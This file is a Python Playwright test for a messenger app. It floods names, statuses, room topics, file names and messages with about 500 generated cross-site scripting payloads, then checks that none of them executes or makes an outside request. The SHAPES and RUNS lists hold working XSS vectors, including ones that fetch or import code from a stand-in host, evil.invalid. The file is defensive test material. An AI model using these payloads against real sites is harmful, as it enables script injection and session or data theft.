"""Five hundred attempts at getting a script to run in messages, a third of them in every other text."""

import itertools
import json
import secrets
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable
from typing import Any

from playwright.sync_api import Locator, Page, expect

from tests.browser.hosts import Club, Host
from tests.browser.messenger import Messenger
from tests.browser.person import Person, Window

Sit = Callable[..., Person]
PAYLOADS = 500
PER_REQUEST = 20
# A text may be refused for what is in it, but as bad input and nothing else.
REFUSALS = (400, 415)
# What each is built from; {} is what would run.
SHAPES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src='javascript:{}'>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<a href='javascript:{}'>x</a>",
    "<math><mtext></mtext><script>{}</script></math>",
    "<style>@import '//evil.invalid/?{}'</style>",
    "<link rel=stylesheet href='//evil.invalid/?{}'>",
    "<img src='//evil.invalid/?{}'>",
    "<object data='data:text/html,<script>{}</script>'>",
    "<base href='//evil.invalid/'><script src='{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    '"><script>{}</script>',
    "'-{}-'",
    "</textarea><script>{}</script>",
    "</title><img src=x onerror={}>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{{}}}}}",
    "${{{}}}",
    "`<img src=x onerror={}>`",
    "```\n<script>{}</script>\n```",
    'https://x.invalid/" onmouseover="{}',
    "https://x.invalid/<script>{}</script>",
    "@<img src=x onerror={}>",
    ":<script>{}</script>:",
)
RUNS = (
    "top.ran=1", "ran=1", "window['ran']=1", "parent.ran=1", "self.ran=1", "globalThis.ran=1", "alert(1)",
    "fetch('//evil.invalid')", "eval('ran=1')", "window.name=ran=1", "Function('ran=1')()", "confirm(ran=1)",
    "setTimeout('ran=1')", "import('//evil.invalid/x')", "Image().src='//evil.invalid'",
    "location='//evil.invalid'", "(ran=1)",
)  # fmt: skip
PAYLOAD = [shape.format(run) for run, shape in itertools.product(RUNS, SHAPES)][:PAYLOADS]
# For fields, each of which takes a request of somebody new: every shape, with every third script in turn.
FOR_FIELDS = [
    shape.format(run)
    for (turn, run), (place, shape) in itertools.product(enumerate(RUNS), enumerate(SHAPES))
    if (turn + place) % 3 == 0
]


class Eve:
    """Somebody who fills every field with what she is given, by the API; a new person each time."""

    def __init__(self, messenger: Messenger, club: Club) -> None:
        self._url = messenger.url
        self._club = club
        self.taken = 0

    def fill(self, number: int, payload: str) -> None:
        """Be somebody of that name and status; say it to Ada; call a file, a group and a room so."""
        user = f"x{number:03}"
        # A name is one line of at most 80 characters.
        name = " ".join(payload.split())[:80]
        body = {"site": self._club.site, "token": self._club.token(user, name=name)}
        session = self._ask("", "POST", "/v1/sessions", body)["session"]
        self._ask(session, "PUT", "/v1/presence", {"status_text": payload})
        talk = self._ask(session, "POST", "/v1/conversations", {"user_id": "ada"})["id"]
        group = {"kind": "group", "name": name, "user_ids": ["ada"]}
        self._ask(session, "POST", "/v1/conversations", group)
        self._ask(session, "POST", "/v1/conversations", {"kind": "room", "name": name, "topic": payload})
        called = urllib.parse.quote(payload)
        file = self._ask(session, "POST", f"/v1/files?conversation_id={talk}&name={called}", b"hello")
        message = {"text": payload, "files": [file["id"]] if "id" in file else []}
        self.say(session, talk, [message])

    def say(self, session: str, conversation_id: str, messages: list[dict[str, Any]]) -> None:
        path = f"/v1/conversations/{conversation_id}/messages"
        body = {"messages": [{"client_id": secrets.token_hex(16), **message} for message in messages]}
        self._ask(session, "POST", path, body)

    def talk_to_ada(self) -> None:
        """Say all of it in one conversation."""
        body = {"site": self._club.site, "token": self._club.token("eve")}
        session = self._ask("", "POST", "/v1/sessions", body)["session"]
        talk = self._ask(session, "POST", "/v1/conversations", {"user_id": "ada"})["id"]
        for start in range(0, PAYLOADS, PER_REQUEST):
            texts = PAYLOAD[start : start + PER_REQUEST]
            self.say(session, talk, [{"text": text} for text in texts])

    def _ask(self, session: str, method: str, path: str, body: Any) -> Any:
        """Return the answer, or nothing if what was asked is refused as such."""
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        headers = {"Content-Type": "text/plain" if isinstance(body, bytes) else "application/json"}
        if session:
            headers["Authorization"] = f"Bearer {session}"
        request = urllib.request.Request(self._url + path, data, headers, method=method)  # noqa: S310 - http
        try:
            with urllib.request.urlopen(request, timeout=20) as answer:  # noqa: S310 - http
                self.taken += 1
                said = answer.read()
                return json.loads(said) if said else {}
        except urllib.error.HTTPError as refusal:
            if refusal.code not in REFUSALS:
                raise
            return {}


class Watch:
    """Listens to a page: what ran, and who was asked for anything."""

    def __init__(self, page: Page, *own: str) -> None:
        self.found: list[str] = []
        self._page = page
        page.on("dialog", lambda dialog: self.found.append(dialog.message))
        page.on("request", lambda request: self._asked(request.url, (*own, "data:", "blob:")))

    def _asked(self, url: str, own: tuple[str, ...]) -> None:
        if not url.startswith(own):
            self.found.append(url)

    def expect_nothing(self) -> None:
        """No script ran in any frame, and nobody else was asked."""
        ran = [frame.url for frame in self._page.frames if frame.evaluate("'ran' in window")]
        assert [*self.found, *ran] == []


def scroll_through(log: Locator) -> None:
    """Go back to the beginning of a log."""
    first = "log => { log.scrollTop = 0; return log.querySelector('[data-seq]').dataset.seq; }"
    while (seq := log.evaluate(first)) != "1":
        expect(log.locator("[data-seq]").first).not_to_have_attribute("data-seq", seq)


def look_at_lists(window: Window) -> None:
    """Bring people, invitations and rooms onto the screen."""
    window.open_panel()
    expect(window.frame.get_by_role("list", name="Conversations").get_by_role("button").first).to_be_visible()
    window.frame.locator("[data-folder=invitations]").click()
    expect(window.frame.get_by_role("dialog").get_by_role("button").first).to_be_visible()
    window.page.keyboard.press("Escape")
    window.frame.get_by_role("searchbox", name="Search people").fill("<img")
    expect(window.frame.get_by_role("list", name="Contacts").get_by_role("listitem").first).to_be_visible()
    window.frame.get_by_role("searchbox", name="Search people").fill("")


def test_nothing_that_people_write_ever_runs(
    sit_down: Sit, messenger: Messenger, club: Club, host: Host
) -> None:
    ada = sit_down("ada").window
    expect(ada.bar).to_be_visible()
    watch = Watch(ada.page, messenger.url, host.url)
    eve = Eve(messenger, club)
    for number, payload in enumerate(FOR_FIELDS):
        eve.fill(number, payload)
    # Names of files and rooms may be refused for what is in them; the rest is text like any other.
    assert eve.taken >= 6 * len(FOR_FIELDS) > 6 * 5 * len(SHAPES)
    eve.talk_to_ada()
    look_at_lists(ada)
    ada.row("Conversations", "Eve").click()
    ada.log("Eve").get_by_role("article").first.wait_for()
    scroll_through(ada.log("Eve"))
    shown = ada.log("Eve").locator("script, iframe, object, embed, style, link, base, meta")
    expect(shown).to_have_count(0)
    watch.expect_nothing()
    assert ada.complaints == []
